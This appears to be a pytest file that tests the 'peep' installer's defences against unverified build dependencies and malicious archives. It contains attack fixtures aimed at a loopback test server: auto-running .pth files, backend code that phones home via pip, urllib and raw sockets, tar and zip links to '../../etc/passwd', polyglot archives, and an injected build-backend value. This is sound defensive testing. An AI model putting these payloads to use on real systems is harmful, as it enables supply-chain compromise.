@@ -1,0 +1,537 @@
+"""Building verified sdists: nothing unverified is reached, whatever the build asks for.
+
+Each route by which a build could reach an archive nobody hashed has a test:
+the unverified archive is really served (at /evil/ on the loopback server,
+so that the attack would work if the route were open), it carries a
+telltale that its code would write, and each test asserts that the server
+saw no request for it, that no telltale was written, and what the user is
+told.
+"""
+
+from __future__ import annotations
+
+import io
+import subprocess
+import sys
+import tarfile
+import warnings
+import zipfile
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Dict, List, Optional
+
+import pytest
+from helpers import (
+    TELLTALE_ENV,
+    LoopbackIndex,
+    block,
+    hermetic_env,
+    installed_in,
+    run_peep,
+    sdist_bytes,
+    tar_gz_bytes,
+    wheel_bytes,
+    wheel_from_installed,
+)
+
+import peep
+
+
+def pth_telltale(name: str) -> Dict[str, bytes]:
+    """A .pth file that records, when its wheel's directory is a site dir, that it ran."""
+    code = (
+        "import os; d = os.environ.get(%r); "
+        "d and open(os.path.join(d, %r), 'w').write('unverified code ran')\n"
+    ) % (TELLTALE_ENV, name + ".ran")
+    return {f"{name}_telltale.pth": code.encode()}
+
+
+class Build:
+    """A requirements file, a --target dir, telltales, and unverified files at /evil/."""
+
+    def __init__(self, tmp_path: Path, index: LoopbackIndex) -> None:
+        self.tmp_path = tmp_path
+        self.index = index
+        self.target = tmp_path / "target"
+        self.telltales = tmp_path / "telltales"
+        self.telltales.mkdir()
+        self.requirements = tmp_path / "requirements.txt"
+        self.evil: Dict[str, bytes] = {}
+        index.hook = self._serve_evil
+
+    def _serve_evil(self, handler: BaseHTTPRequestHandler) -> bool:
+        if not handler.path.startswith("/evil/"):
+            return False
+        name = handler.path[len("/evil/"):].split("?")[0].strip("/")
+        if name in self.evil:
+            body = self.evil[name]
+        else:  # a find-links page, or a simple index page, of every evil file
+            body = "".join(f'<a href="/evil/{n}">{n}</a>\n' for n in self.evil).encode()
+        handler.send_response(200)
+        handler.send_header("Content-Length", str(len(body)))
+        handler.end_headers()
+        handler.wfile.write(body)
+        return True
+
+    def evil_url(self, filename: str) -> str:
+        return f"http://127.0.0.1:{self.index.port}/evil/{filename}"
+
+    def plant(self, filename_and_bytes: tuple) -> str:
+        """Serve an unverified archive at /evil/; return its URL."""
+        filename, data = filename_and_bytes
+        self.evil[filename] = data
+        return self.evil_url(filename)
+
+    def evil_requests(self) -> List[str]:
+        return [path for path in self.index.requests if path.startswith("/evil/")]
+
+    def install(self, text: str, *extra: str, env: Optional[Dict[str, str]] = None,
+                python: str = sys.executable) -> subprocess.CompletedProcess:
+        self.requirements.write_text(text)
+        return run_peep(
+            "install", "-r", str(self.requirements), "--target", str(self.target),
+            "--index-url", self.index.url, *extra,
+            env=env or hermetic_env(**{TELLTALE_ENV: str(self.telltales)}), python=python,
+        )
+
+    def ran(self) -> List[str]:
+        return sorted(p.name for p in self.telltales.iterdir())
+
+    def assert_nothing_unverified_reached(self, result: subprocess.CompletedProcess) -> None:
+        assert self.evil_requests() == [], result.stderr
+        assert not any(name.startswith("evil") for name in self.ran())
+        assert installed_in(self.target) == {}
+
+
+@pytest.fixture
+def build(tmp_path: Path, index: LoopbackIndex) -> Build:
+    return Build(tmp_path, index)
+
+
+# --- Routes to unverified archives ----------------------------------------------------
+
+
+def test_direct_url_in_static_build_requirements_is_refused(build: Build) -> None:
+    url = build.plant(wheel_bytes("helper", "1.0", extra_files=pth_telltale("evil")))
+    helper = build.index.add(wheel_bytes("helper", "1.0"))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", build_requires=[f"helper @ {url}"]))
+    # A hashed helper==1.0 is listed too: peep must not be satisfied by the name.
+    result = build.install(block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0"))
+    assert result.returncode == 1, result.stderr
+    assert "The following sdists can't be built safely, so peep won't build them:" in result.stderr
+    assert f"beta-2.0.tar.gz: build requirement 'helper @ {url}' (its pyproject.toml) is a direct URL" in result.stderr
+    assert "list helper in your requirements with its hash instead" in result.stderr
+    build.assert_nothing_unverified_reached(result)
+    assert build.ran() == []  # not even the verified sdist's backend ran
+
+
+def test_direct_url_from_get_requires_for_build_wheel_is_refused(build: Build) -> None:
+    url = build.plant(wheel_bytes("helper", "1.0", extra_files=pth_telltale("evil")))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", extra_build_requires=[f"helper @ {url}"]))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 1, result.stderr
+    assert (f"beta-2.0.tar.gz: build requirement 'helper @ {url}' "
+            "(its backend's get_requires_for_build_wheel) is a direct URL") in result.stderr
+    build.assert_nothing_unverified_reached(result)
+    assert build.ran() == ["beta-2.0.ran"]  # the verified backend was asked, nothing more
+
+
+def test_direct_url_in_a_build_dependencys_own_requirements_is_refused(build: Build) -> None:
+    url = build.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
+    helper = build.index.add(wheel_bytes("helper", "1.0", requires=[f"sneaky @ {url}"]))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
+    result = build.install(block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0"))
+    assert result.returncode == 1, result.stderr
+    assert f"build requirement 'sneaky @ {url}' (a dependency of helper 1.0) is a direct URL" in result.stderr
+    build.assert_nothing_unverified_reached(result)
+
+
+def test_build_dependencies_of_build_dependencies_must_be_verified_wheels(build: Build) -> None:
+    build.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
+    sneaky = build.index.add(wheel_bytes("sneaky", "1.0"))
+    helper = build.index.add(wheel_bytes("helper", "1.0", requires=["sneaky>=1"]))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
+    text = block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0")
+    result = build.install(text)
+    assert result.returncode == 1, result.stderr
+    assert "    beta-2.0.tar.gz needs sneaky>=1 (a dependency of helper 1.0):" in result.stderr
+    build.assert_nothing_unverified_reached(result)
+    # With sneaky hashed too, the build gets helper and sneaky, and succeeds.
+    result = build.install(text + block(sneaky.data, "sneaky==1.0"))
+    assert result.returncode == 0, result.stderr
+    assert installed_in(build.target) == {"beta": "2.0", "helper": "1.0", "sneaky": "1.0"}
+
+
+def test_missing_dynamic_build_dependency_gets_a_paste_ready_hash(build: Build) -> None:
+    sneaky = build.index.add(wheel_bytes("sneaky", "1.0"))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", extra_build_requires=["sneaky>=1"]))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 1, result.stderr
+    expected = block(sneaky.data, "sneaky==1.0").splitlines()
+    assert (
+        "    beta-2.0.tar.gz needs sneaky>=1 (its backend's get_requires_for_build_wheel):\n"
+        f"        {expected[0]}\n        {expected[1]}\n"
+    ) in result.stderr
+    assert installed_in(build.target) == {}
+    # The pasted block is all it takes.
+    result = build.install(block(sdist.data, "beta==2.0") + block(sneaky.data, "sneaky==1.0"))
+    assert result.returncode == 0, result.stderr
+
+
+def test_nested_pip_and_urllib_in_a_build_reach_nothing(build: Build) -> None:
+    """The backend tries pip (with an index and find-links of its own) and urllib."""
+    build.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
+    index_url, links = build.evil_url(""), build.evil_url("")
+    code = f"""
+import subprocess, sys, urllib.request
+_pip = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-d", "fetched",
+                       "--index-url", {index_url!r}, "--find-links", {links!r}, "sneaky"],
+                      capture_output=True, text=True)
+try:
+    urllib.request.urlopen({build.evil_url("phone-home")!r}, timeout=10)
+    _urllib = "reached"
+except Exception as exc:
+    _urllib = "blocked"
+with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "attempts.txt"), "w") as f:
+    f.write("pip %d urllib %s" % (_pip.returncode, _urllib))
+"""
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code="import os\n" + code))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 0, result.stderr
+    assert build.evil_requests() == []
+    assert (build.telltales / "attempts.txt").read_text() == "pip 1 urllib blocked"
+
+
+def test_legacy_setup_py_sdist_fetches_no_setup_requires(build: Build, tmp_path: Path) -> None:
+    """No pyproject.toml, setuptools and wheel installed: setup_requires and find_links."""
+    python = sys.executable  # the test environment: a venv with setuptools and wheel
+    subprocess.run([python, "-c", "import setuptools, wheel"], check=True)
+    build.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
+    setuptools = build.index.add(wheel_from_installed("setuptools"))
+    members = {
+        "legacy-1.0/setup.py": b"from setuptools import setup\n"
+                               b"setup(name='legacy', version='1.0', py_modules=['legacy'],"
+                               b" setup_requires=['sneaky'])\n",
+        "legacy-1.0/setup.cfg": f"[easy_install]\nfind_links = {build.evil_url('')}\n".encode(),
+        "legacy-1.0/legacy.py": b"VERSION = '1.0'\n",
+        "legacy-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: legacy\nVersion: 1.0\n",
+    }
+    data = tar_gz_bytes([(tarfile.TarInfo(name), body) for name, body in members.items()])
+    sdist = build.index.add(("legacy-1.0.tar.gz", data))
+    text = block(sdist.data, "legacy==1.0") + block(setuptools.data, f"setuptools=={setuptools.filename.split('-')[1]}")
+    result = build.install(text, python=python)
+    assert result.returncode == 1, result.stderr
+    assert "    legacy-1.0.tar.gz needs sneaky (its backend's get_requires_for_build_wheel)" in result.stderr
+    build.assert_nothing_unverified_reached(result)
+    # pip's own legacy route is refused outright.
+    result = build.install(text, "--no-use-pep517", python=python)
+    assert result.returncode == 2
+    assert "--no-use-pep517 is not supported: it makes pip run setup.py itself" in result.stderr
+    assert build.evil_requests() == []
+
+
+def test_setup_py_sdist_builds_through_pep_517_with_a_verified_setuptools(build: Build) -> None:
+    # setuptools, and what older releases of it ask for (wheel, which needs packaging).
+    backend = [build.index.add(wheel_from_installed(p)) for p in ("setuptools", "wheel", "packaging")]
+    members = {
+        "plain-1.0/setup.py": b"from setuptools import setup\n"
+                              b"setup(name='plain', version='1.0', py_modules=['plain'])\n",
+        "plain-1.0/plain.py": b"VERSION = '1.0'\n",
+    }
+    data = tar_gz_bytes([(tarfile.TarInfo(name), body) for name, body in members.items()])
+    sdist = build.index.add(("plain-1.0.tar.gz", data))
+    pins = {w.project: w.filename.split("-")[1] for w in backend}
+    result = build.install(block(sdist.data, "plain==1.0")
+                           + "".join(block(w.data, f"{w.project}=={pins[w.project]}") for w in backend))
+    assert result.returncode == 0, result.stderr
+    assert installed_in(build.target) == dict(pins, plain="1.0")
+    assert (build.target / "plain.py").read_text() == "VERSION = '1.0'\n"
+    assert "setup.py install" not in result.stdout + result.stderr
+
+
+def test_refused_build_options(build: Build) -> None:
+    sdist = build.index.add(sdist_bytes("beta", "2.0"))
+    result = build.install(block(sdist.data, "beta==2.0"), "--no-build-isolation")
+    assert result.returncode == 2
+    assert "--no-build-isolation is not supported: it lets a build import whatever is installed" in result.stderr
+    assert build.ran() == []
+
+
+def test_two_sdists_share_one_build_environment(build: Build) -> None:
+    helper = build.index.add(wheel_bytes("helper", "1.0"))
+    beta = build.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
+    gamma = build.index.add(sdist_bytes("gamma", "3.0", build_requires=["helper>=1"]))
+    text = block(beta.data, "beta==2.0") + block(gamma.data, "gamma==3.0") + block(helper.data, "helper==1.0")
+    result = build.install(text)
+    assert result.returncode == 0, result.stderr
+    assert result.stderr.count("peep: preparing a build environment with helper 1.0") == 1
+    assert build.ran() == ["beta-2.0.ran", "gamma-3.0.ran"]
+    assert installed_in(build.target) == {"beta": "2.0", "gamma": "3.0", "helper": "1.0"}
+
+
+def test_build_sees_only_its_environment_not_the_interpreters_packages(build: Build) -> None:
+    """The build interpreter cannot import what peep's own Python has installed."""
+    code = """
+import os
+try:
+    import pytest  # installed where the tests run, not in the build environment
+    _seen = "visible"
+except ImportError:
+    _seen = "hidden"
+with open(os.path.join(os.environ[%r], "imports.txt"), "w") as f:
+    f.write(_seen)
+""" % TELLTALE_ENV
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code=code))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 0, result.stderr
+    assert (build.telltales / "imports.txt").read_text() == "hidden"
+
+
+# --- --build-network ---------------------------------------------------------------------
+
+
+def phone_home_code(url_port: int) -> str:
+    return f"""
+import os, socket
+try:
+    _s = socket.create_connection(("127.0.0.1", {url_port}), timeout=10)
+    _s.sendall(b"GET /evil/raw-socket HTTP/1.0\\r\\n\\r\\n")
+    _s.recv(100)
+    _reached = "reached"
+except OSError:
+    _reached = "blocked"
+with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "socket.txt"), "w") as f:
+    f.write(_reached)
+"""
+
+
+def _namespaces_work() -> bool:
+    """Ask the kernel directly, in a child process, whether a network namespace can be made."""
+    code = ("import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
+            "flags = 0x40000000 if os.geteuid() == 0 else 0x50000000; "
+            "raise SystemExit(libc.unshare(flags))")
+    return subprocess.run([sys.executable, "-c", code]).returncode == 0
+
+
+def test_closed_network_does_not_stop_raw_sockets(build: Build) -> None:
+    """What the README says the default mode does not stop: verified code's own sockets."""
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code=phone_home_code(build.index.port)))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 0, result.stderr
+    assert (build.telltales / "socket.txt").read_text() == "reached"
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="network namespaces are Linux's")
+def test_build_network_none_stops_raw_sockets(build: Build) -> None:
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code=phone_home_code(build.index.port)))
+    result = build.install(block(sdist.data, "beta==2.0"), "--build-network=none")
+    if not _namespaces_work():
+        assert result.returncode == 1
+        assert "--build-network=none needs a network namespace, which this system refused" in result.stderr
+        return
+    assert result.returncode == 0, result.stderr
+    assert (build.telltales / "socket.txt").read_text() == "blocked"
+    assert build.evil_requests() == []
+    assert installed_in(build.target) == {"beta": "2.0"}
+
+
+# --- One reading of every archive --------------------------------------------------------
+
+
+def _tar(*members: tarfile.TarInfo, data: bytes = b"x") -> bytes:
+    return tar_gz_bytes([(member, data) for member in members])
+
+
+def _info(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = linkname
+    if kind == tarfile.DIRTYPE:
+        info.mode = 0o755
+    return info
+
+
+def _zip(*names: str, data: bytes = b"x", symlink: str = "") -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name in names:
+            archive.writestr(zipfile.ZipInfo(name), data)
+        if symlink:
+            info = zipfile.ZipInfo(symlink)
+            info.external_attr = 0o120777 << 16
+            archive.writestr(info, "../../etc/passwd")
+    return buffer.getvalue()
+
+
+def _wheel(*extra: str, metadata: bytes = b"Name: alpha\nVersion: 1.0\n") -> bytes:
+    buffer = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
+        warnings.simplefilter("ignore")  # a duplicate name is the point of some cases
+        archive.writestr("alpha-1.0.dist-info/METADATA", metadata)
+        archive.writestr("alpha.py", b"")
+        for name in extra:
+            archive.writestr(name, b"second")
+    return buffer.getvalue()
+
+
+def _polyglot() -> bytes:
+    """A .tar.gz whose bytes are also a zip archive."""
+    return _tar(_info("beta-2.0/setup.py")) + _zip("beta-2.0/evil.py")
+
+
+def _local_header_renamed() -> bytes:
+    data = bytearray(_wheel())
+    position = data.index(b"alpha.py")  # the first, in the local header
+    data[position:position + 8] = b"alphb.py"
+    return bytes(data)
+
+
+BAD_ARCHIVES = [
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/pyproject.toml"), _info("beta-2.0/pyproject.toml")),
+     "member 'beta-2.0/pyproject.toml' appears twice"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/README"), _info("beta-2.0/readme")),
+     "member 'beta-2.0/readme' appears twice (or differs only in case)"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/setup.py"), _info("other/setup.py")),
+     "members lie outside one top-level directory ('beta-2.0' and 'other')"),
+    ("beta-2.0.tar.gz", _tar(_info("setup.py")), "member 'setup.py' is not in a directory"),
+    ("beta-2.0.tar.gz", _tar(_info("/etc/beta")), "member '/etc/beta' has an absolute path"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/../../beta")), "member 'beta-2.0/../../beta' leaves the archive"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.SYMTYPE, "../../etc/passwd")),
+     "link 'beta-2.0/link' points outside the archive ('../../etc/passwd')"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.SYMTYPE, "/etc/passwd")),
+     "link 'beta-2.0/link' points outside the archive ('/etc/passwd')"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.LNKTYPE, "etc/passwd")),
+     "hard link 'beta-2.0/link' points at 'etc/passwd', which is not an earlier file"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dir", tarfile.SYMTYPE, "."), _info("beta-2.0/dir/x")),
+     "member 'beta-2.0/dir/x' lies under a link, not a directory"),
+    # Links to "." would let a textually harmless path climb out once on disk.
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/d/here", tarfile.SYMTYPE, "."),
+                             _info("beta-2.0/d/up", tarfile.SYMTYPE, "here/here/here/../../../../x")),
+     "link 'beta-2.0/d/here' points at '.', which is not a file of the archive"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/x"), _info("beta-2.0/l1", tarfile.SYMTYPE, "x"),
+                             _info("beta-2.0/l2", tarfile.SYMTYPE, "l1")),
+     "link 'beta-2.0/l2' points at 'l1', which is not a file of the archive"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dir", tarfile.DIRTYPE), _info("beta-2.0/l", tarfile.SYMTYPE, "dir")),
+     "link 'beta-2.0/l' points at 'dir', which is not a file of the archive"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/x"), _info("beta-2.0/pyproject.toml", tarfile.SYMTYPE, "x")),
+     "member 'beta-2.0/pyproject.toml' is a link"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dev", tarfile.CHRTYPE)),
+     "member 'beta-2.0/dev' is not a file, directory or link"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/pyproject.toml"), data=b"#" * (peep.MAX_METADATA_BYTES + 1)),
+     "pyproject.toml is 1048577 bytes, more than peep reads"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/PKG-INFO"), data=b"Name: gamma\nVersion: 2.0\n"),
+     "its PKG-INFO names the project 'gamma', not the one its file name gives"),
+    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/PKG-INFO"), data=b"Name: beta\nVersion: 2.1\n"),
+     "its PKG-INFO gives version '2.1', not the one its file name gives"),
+    ("beta-2.0.tar.gz", _polyglot(), "the same bytes are also a zip archive; refusing a polyglot"),
+    ("beta-2.0.tar.gz", b"not an archive", "not a readable archive"),
+    ("beta-2.0.zip", b"junk" + _zip("beta-2.0/setup.py"), "does not start with a zip member"),
+    ("beta-2.0.zip", _zip("beta-2.0/a", symlink="beta-2.0/link"), "member 'beta-2.0/link' is a symbolic link"),
+    ("beta-2.0.zip", _zip("beta-2.0\\setup.py"), "has a NUL or a backslash in its name"),
+    ("alpha-1.0-py3-none-any.whl", _wheel("alpha.py"), "member 'alpha.py' appears twice"),
+    ("alpha-1.0-py3-none-any.whl", _wheel("other-1.0.dist-info/METADATA"),
+     "a wheel needs exactly one .dist-info directory, not 2"),
+    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: alpha\nVersion: 1.1\n"),
+     "its METADATA gives version '1.1', not the one its file name gives"),
+    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: other\nVersion: 1.0\n"),
+     "its METADATA names the project 'other', not the one its file name gives"),
+    ("alpha-2.0-py3-none-any.whl", _wheel(), "its .dist-info directory is for alpha 1.0"),
+    ("alpha-1.0-py3-none-any.whl", _local_header_renamed(), "has another name in its local header"),
+    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: alpha\n" + b"#" * peep.MAX_METADATA_BYTES),
+     "METADATA is 1048588 bytes, more than peep reads"),
+]
+
+
+@pytest.mark.parametrize("filename, data, message", BAD_ARCHIVES)
+def test_archives_two_tools_could_read_differently_are_refused(
+    tmp_path: Path, filename: str, data: bytes, message: str
+) -> None:
+    path = tmp_path / filename
+    path.write_bytes(data)
+    with pytest.raises(peep.ArchiveError) as caught:
+        peep.read_archive(str(path), filename)
+    assert str(caught.value).startswith(f"{filename}: ")
+    assert message in str(caught.value)
+
+
+def test_a_well_formed_sdist_extracts_exactly_what_was_read(tmp_path: Path) -> None:
+    members = [
+        (_info("beta-2.0", tarfile.DIRTYPE), b""),
+        (_info("beta-2.0/PKG-INFO"), b"Metadata-Version: 2.1\nName: Beta\nVersion: 2.0\n"),
+        (_info("beta-2.0/pyproject.toml"), b"[build-system]\nrequires = []\n"),
+        (_info("beta-2.0/src/beta.py"), b"X = 1\n"),
+        (_info("beta-2.0/README", tarfile.SYMTYPE, "src/beta.py"), b""),
+        (_info("beta-2.0/copy.py", tarfile.LNKTYPE, "beta-2.0/src/beta.py"), b""),
+    ]
+    path = tmp_path / "beta-2.0.tar.gz"
+    path.write_bytes(tar_gz_bytes(members))
+    facts = peep.read_archive(str(path), path.name, extract_to=str(tmp_path / "out"))
+    assert (facts.kind, facts.name, str(facts.version), facts.top) == ("sdist", "beta", "2.0", "beta-2.0")
+    assert facts.pyproject == b"[build-system]\nrequires = []\n"
+    root = tmp_path / "out" / "beta-2.0"
+    assert sorted(str(p.relative_to(root)) for p in root.rglob("*")) == [
+        "PKG-INFO", "README", "copy.py", "pyproject.toml", "src", "src/beta.py"]
+    for copy in ("README", "copy.py"):  # links are extracted as copies of what they name
+        assert (root / copy).read_bytes() == b"X = 1\n" and not (root / copy).is_symlink()
+
+
+def test_refused_sdist_is_reported_and_never_built(build: Build) -> None:
+    name, good = sdist_bytes("beta", "2.0")
+    with tarfile.open(fileobj=io.BytesIO(good)) as archive:
+        members = [(m, archive.extractfile(m).read()) for m in archive.getmembers()]  # type: ignore[union-attr]
+    second = tarfile.TarInfo("beta-2.0/pyproject.toml")
+    evil = b'[build-system]\nrequires = []\nbuild-backend = "evil"\n'
+    served = build.index.add((name, tar_gz_bytes(members + [(second, evil)])))
+    result = build.install(block(served.data, "beta==2.0"))
+    assert result.returncode == 1
+    assert "The following archives matched their hashes, but peep refuses them" in result.stderr
+    assert "beta-2.0.tar.gz: member 'beta-2.0/pyproject.toml' appears twice" in result.stderr
+    assert build.ran() == [] and installed_in(build.target) == {}
+
+
+def test_wheel_whose_metadata_disagrees_with_its_name_installs_nothing(build: Build) -> None:
+    good = build.index.add(wheel_bytes("alpha", "1.0"))
+    name, data = wheel_bytes("beta", "1.0")
+    liar = build.index.add(("gamma-1.0-py3-none-any.whl", data), project="gamma")
+    result = build.install(block(good.data, "alpha==1.0") + block(liar.data, "gamma==1.0"))
+    assert result.returncode == 1
+    assert "gamma-1.0-py3-none-any.whl: its .dist-info directory is for beta 1.0" in result.stderr
+    assert installed_in(build.target) == {}
+
+
+def test_backend_that_builds_another_project_is_refused(build: Build) -> None:
+    code = "NAME = 'other'\n"  # the backend's wheel is other-2.0
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code=code, extra_files={"other.py": b""}))
+    result = build.install(block(sdist.data, "beta==2.0"))
+    assert result.returncode == 1
+    assert "The following sdists failed to build:" in result.stderr
+    assert "beta-2.0.tar.gz: it built other-2.0-py3-none-any.whl, which is not beta 2.0" in result.stderr
+    assert installed_in(build.target) == {}
+
+
+def test_failing_build_shows_its_output_and_installs_nothing(build: Build) -> None:
+    wheel = build.index.add(wheel_bytes("alpha", "1.0"))
+    code = "import sys\nprint('compiler exploded', file=sys.stderr)\nraise SystemExit(7)\n"
+    sdist = build.index.add(sdist_bytes("beta", "2.0", backend_code=code))
+    result = build.install(block(wheel.data, "alpha==1.0") + block(sdist.data, "beta==2.0"))
+    assert result.returncode == 1
+    assert "beta-2.0.tar.gz: get_requires_for_build_wheel failed (exit status 7)" in result.stderr
+    assert "        | compiler exploded" in result.stderr
+    assert installed_in(build.target) == {}
+
+
+@pytest.mark.parametrize("pyproject, message", [
+    ('[build-system]\nrequires = [\n', "its pyproject.toml is invalid"),
+    ('[build-system]\nbuild-backend = "x"\n', "build-system.requires in its pyproject.toml is missing"),
+    ('[build-system]\nrequires = []\nbuild-backend = "x"\nbackend-path = ["../.."]\n',
+     "build-system.backend-path '../..' leaves the source tree"),
+    ('[build-system]\nrequires = []\nbuild-backend = "os; import evil"\n', "build-system.build-backend 'os; import evil' is not valid"),
+])
+def test_unusable_build_systems_join_the_report(build: Build, pyproject: str, message: str) -> None:
+    wheel = build.index.add(wheel_bytes("alpha", "1.0"))
+    sdist = build.index.add(sdist_bytes("beta", "2.0", pyproject=pyproject))
+    result = build.install(block(wheel.data, "alpha==1.0") + block(sdist.data, "beta==2.0"))
+    assert result.returncode == 1
+    assert "The following sdists can't be built safely, so peep won't build them:" in result.stderr
+    assert f"    beta-2.0.tar.gz: {message}" in result.stderr
+    assert build.ran() == [] and installed_in(build.target) == {}
